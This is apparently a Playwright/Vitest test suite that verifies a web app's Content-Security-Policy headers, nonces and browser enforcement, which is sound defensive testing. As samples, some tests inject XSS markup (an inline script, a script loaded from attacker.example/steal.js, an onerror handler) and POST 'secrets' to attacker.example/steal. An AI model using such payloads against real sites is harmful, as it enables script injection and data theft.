import type { BrowserContext, Page } from "playwright-core";
import { describe, expect, inject, it } from "vitest";
import { type CspViolation, watchCspViolations } from "@ownlist/test-kit/csp";
import { useBrowser } from "@ownlist/test-kit/use-browser";
import { addTask, openTasks, waitForListSettled } from "@ownlist/test-kit/tasks";
import { newSignedInContext, newTestUser } from "@ownlist/test-kit/users";

const browser = useBrowser();

/**
 * Web's Content-Security-Policy (docs/decisions/019): present on every page with a fresh nonce,
 * enforced by the browser, and tight enough to block what the app does not do while letting
 * everything it does do run without a single violation.
 */

const webUrl = inject("webUrl");
const apiOrigin = new URL(inject("apiUrl")).origin;
let context: BrowserContext | undefined;

/** The policy's directives by name, each with its sources. */
function directivesOf(policy: string): Map<string, string[]> {
  const directives = new Map<string, string[]>();
  for (const directive of policy.split(";")) {
    const [name, ...sources] = directive.trim().split(/\s+/);
    if (name) directives.set(name, sources);
  }
  return directives;
}

function nonceOf(directives: Map<string, string[]>): string {
  const source = directives.get("script-src")?.find((value) => value.startsWith("'nonce-"));
  if (!source)
    throw new Error(`no nonce in script-src: ${directives.get("script-src")?.join(" ")}`);
  return source.slice("'nonce-".length, -1);
}

function sortedViolations(violations: CspViolation[]): CspViolation[] {
  return violations.toSorted((a, b) =>
    `${a.directive} ${a.blocked}`.localeCompare(`${b.directive} ${b.blocked}`),
  );
}

/**
 * Reports reach the test asynchronously: let the page render a few frames until this many have
 * arrived (bounded, so that a missing one fails the assertion after it, not a timeout).
 */
async function waitForViolations(violations: CspViolation[], count: number, page: Page) {
  for (let frame = 0; violations.length < count && frame < 50; frame++) {
    await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(resolve)));
  }
}

describe("the Content-Security-Policy header", () => {
  it("is on the sign-in page with a fresh nonce on each response, which Next puts on its scripts", async () => {
    context = await browser.newContext();
    const policies: string[] = [];
    for (let request = 0; request < 2; request++) {
      const response = await context.request.get(`${webUrl}/sign-in`);
      expect(response.status()).toBe(200);
      const policy = response.headers()["content-security-policy"];
      expect(policy).toBeDefined();
      policies.push(policy as string);

      // Every script in the HTML carries this response's nonce, or the page would not hydrate.
      const nonce = nonceOf(directivesOf(policy as string));
      const scripts = (await response.text()).match(/<script\b[^>]*>/g) ?? [];
      expect(scripts.length).toBeGreaterThan(0);
      for (const script of scripts) expect(script).toContain(`nonce="${nonce}"`);
    }
    const [first, second] = policies.map((policy) => nonceOf(directivesOf(policy)));
    expect(first).toMatch(/^[A-Za-z0-9+/]{22}==$/);
    expect(second).not.toBe(first);
  });

  it("allows only what the app loads: its own origin, the api for fetches, no eval, no plugins, no framing", async () => {
    ({ context } = await newSignedInContext(browser));
    const response = await context.request.get(`${webUrl}/tasks`);
    expect(response.status()).toBe(200);
    const headers = response.headers();
    const directives = directivesOf(headers["content-security-policy"] ?? "");
    const nonce = nonceOf(directives);

    expect(Object.fromEntries(directives)).toEqual({
      "default-src": ["'self'"],
      "script-src": ["'self'", `'nonce-${nonce}'`, "'strict-dynamic'"],
      "style-src": ["'self'", `'nonce-${nonce}'`],
      "img-src": ["'self'", "data:", "blob:"],
      "font-src": ["'self'"],
      "connect-src": ["'self'", apiOrigin],
      "object-src": ["'none'"],
      "base-uri": ["'self'"],
      "form-action": ["'self'"],
      "frame-ancestors": ["'none'"],
    });
    expect(headers["x-content-type-options"]).toBe("nosniff");
    expect(headers["referrer-policy"]).toBe("strict-origin-when-cross-origin");
    expect(headers["x-frame-options"]).toBe("DENY");
    expect(headers["cross-origin-opener-policy"]).toBe("same-origin");
    expect(headers["permissions-policy"]).toContain("camera=()");
    expect(headers["permissions-policy"]).toContain("microphone=()");
    expect(headers["permissions-policy"]).toContain("geolocation=()");
    // The throw-away stack is plain http: no HSTS (lib/security/security-headers.ts).
    expect(headers["strict-transport-security"]).toBeUndefined();
  });

  it("denies the camera, microphone and location to the page itself", async () => {
    context = await browser.newContext();
    const page = await context.newPage();
    await page.goto(`${webUrl}/sign-in`);
    const allowed = await page.evaluate(() => {
      const policy = (
        document as Document & {
          featurePolicy?: { allowsFeature(feature: string): boolean };
        }
      ).featurePolicy;
      return ["camera", "microphone", "geolocation"].map((f) => policy?.allowsFeature(f) ?? null);
    });
    expect(allowed).toEqual([false, false, false]);
  });

  it("sends Permissions-Policy and Cross-Origin-Opener-Policy with static files too", async () => {
    context = await browser.newContext();
    const page = await context.newPage();
    await page.goto(`${webUrl}/sign-in`);
    const script = await page.evaluate(
      () => document.querySelector<HTMLScriptElement>("script[src^='/_next/static/']")?.src,
    );
    expect(script).toBeTruthy();
    const response = await context.request.get(script ?? "");
    expect(response.headers()["permissions-policy"]).toContain("camera=()");
    expect(response.headers()["cross-origin-opener-policy"]).toBe("same-origin");
  });

  it("is on Next's HTML 404 page too, even under /api/", async () => {
    context = await browser.newContext();
    for (const path of ["/no-such-page", "/api/no-such-route"]) {
      const response = await context.request.get(`${webUrl}${path}`);
      expect(response.status()).toBe(404);
      expect(response.headers()["content-type"]).toContain("text/html");
      expect(
        nonceOf(directivesOf(response.headers()["content-security-policy"] ?? "")),
      ).toBeTruthy();
    }
  });
});

describe("the browser enforces it", () => {
  it("runs Next's nonce'd scripts but none that injected markup brings along", async () => {
    context = await browser.newContext();
    const violations = await watchCspViolations(context);
    const page = await context.newPage();
    // What a stored-XSS hole would put into a server-rendered page: markup the parser meets,
    // with no nonce (the attacker cannot know this response's). The real CSP header is kept.
    await page.route(`${webUrl}/sign-in`, async (route) => {
      const response = await route.fetch();
      const injected = [
        "<script>window.injectedInlineRan = true</script>",
        '<script src="https://attacker.example/steal.js"></script>',
        // An empty data: URL is no image, so the error handler is what would run.
        '<img src="data:," onerror="window.injectedHandlerRan = true" alt="">',
      ].join("");
      const body = (await response.text()).replace("</body>", `${injected}</body>`);
      await route.fulfill({ response, body });
    });
    await page.goto(`${webUrl}/sign-in`);
    // Next's own scripts ran (they carry the nonce): the app router is up.
    await page.waitForFunction(() => "next" in window);
    await waitForViolations(violations, 3, page);

    expect(
      await page.evaluate(() =>
        ["injectedInlineRan", "injectedHandlerRan"].filter((name) => name in window),
      ),
    ).toEqual([]);
    expect(sortedViolations(violations)).toEqual([
      { directive: "script-src-attr", blocked: "inline" },
      { directive: "script-src-elem", blocked: "https://attacker.example/steal.js" },
      { directive: "script-src-elem", blocked: "inline" },
    ]);
  });

  it("refuses eval (no 'unsafe-eval' outside development)", async () => {
    context = await browser.newContext();
    const violations = await watchCspViolations(context);
    const page = await context.newPage();
    await page.goto(`${webUrl}/sign-in`);
    // From a task of the page's own: code that DevTools evaluates is exempt from the page's CSP,
    // so page.evaluate must not call eval itself.
    const outcome = await page.evaluate(
      () =>
        new Promise<string>((resolve) => {
          setTimeout(() => {
            try {
              resolve(String(eval("'evaluated'")));
            } catch (error) {
              resolve((error as Error).name);
            }
          });
        }),
    );
    await waitForViolations(violations, 1, page);

    expect(outcome).toBe("EvalError");
    expect(violations).toEqual([{ directive: "script-src", blocked: "eval" }]);
  });

  it("blocks a fetch to any origin but web's and the api's", async () => {
    ({ context } = await newSignedInContext(browser));
    const violations = await watchCspViolations(context);
    const { page } = await openTasks(context);

    const foreign = await page.evaluate(() =>
      fetch("https://attacker.example/steal", { method: "POST", body: "secrets" }).then(
        () => "sent",
        () => "refused",
      ),
    );
    // The api is allowed: this request may fail for its own reasons, but raises no violation.
    await page.evaluate((api) => fetch(`${api}/health`).catch(() => undefined), apiOrigin);
    await waitForViolations(violations, 1, page);

    expect(foreign).toBe("refused");
    // Refused by the policy, not by the network: the browser names the directive and the URL.
    expect(violations).toEqual([
      { directive: "connect-src", blocked: "https://attacker.example/steal" },
    ]);
  });
});

it("lets a whole visit (sign up, add a task, reload, account, sign out) run without one violation", async () => {
  context = await browser.newContext();
  const violations = await watchCspViolations(context);
  const page = await context.newPage();
  const errors: string[] = [];
  page.on("console", (message) => {
    if (message.type() === "error") errors.push(message.text());
  });
  page.on("pageerror", (error) => errors.push(error.message));

  const user = newTestUser();
  await page.goto(`${webUrl}/`);
  await page.getByRole("link", { name: "Create an account" }).click();
  await page.waitForURL("**/sign-up");
  await page.getByLabel("Name").fill(user.name);
  await page.getByLabel("Email").fill(user.email);
  await page.getByLabel("Password").fill(user.password);
  await page.getByRole("button", { name: "Create account" }).click();
  await page.waitForURL("**/tasks");
  await waitForListSettled(page);
  await addTask(page, "Check the policy");

  await page.reload();
  await waitForListSettled(page);
  await page.getByText("Check the policy", { exact: true }).waitFor();
  await page.getByRole("link", { name: "Account" }).click();
  await page.waitForURL("**/account");
  await page.getByRole("button", { name: "Sign out" }).click();
  await page.waitForURL("**/sign-in");

  expect(violations).toEqual([]);
  expect(errors).toEqual([]);
});
